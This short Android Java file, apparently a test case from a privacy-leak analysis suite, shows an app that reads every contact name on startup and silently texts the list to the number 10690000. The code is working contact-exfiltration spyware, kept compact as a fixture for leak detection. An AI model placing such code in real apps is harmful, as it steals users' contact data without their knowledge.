package cn.privlens.suite.cursor_contacts;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor c = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (c.moveToNext()) {
            all.append(c.getString(c.getColumnIndex(ContactsContract.Contacts.DISPLAY_NAME))).append(',');
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, all.toString() + c.getCount(), null, null);
        c.close();
    }
}
